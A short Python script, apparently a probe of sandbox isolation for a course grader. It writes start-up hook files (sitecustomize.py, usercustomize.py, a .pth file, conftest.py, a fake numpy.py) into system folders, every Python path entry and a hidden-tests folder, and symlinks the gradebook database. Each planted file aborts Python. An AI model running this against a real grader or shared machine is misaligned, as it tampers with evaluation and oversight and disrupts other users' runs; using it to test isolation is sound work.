"""Plants files for the next submission and for the grader: caches, start-up files, modules, links, in every folder."""

# %%
import os
import sys

NAMES = ("planted.txt", "sitecustomize.py", "usercustomize.py", "numpy.py", "planted.pth", "conftest.py", "@MARK@")
FOLDERS = ("/tmp", "/dev/shm", "/var/tmp", "/run", "/run/tinytorch", "/run/tinytorch/tinytorch", "/etc", "/usr/lib",
           os.environ["HOME"], "@HOME@", "@TMP@", "@CHECKOUT@", "@CHECKOUT@/tests/hidden/13_kernels", *sys.path, "/sys/devices/system/cpu")
OWN = ("/tmp", "/dev/shm", os.environ["HOME"])
for folder in FOLDERS:
    for name in NAMES:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit('planted')")
            if folder and not folder.startswith(OWN):
                print("got through:", folder, name)
            os.symlink("@CHECKOUT@/assignments/gradebook.db", os.path.join(folder, "link"))
        except OSError:
            pass
print("tried")
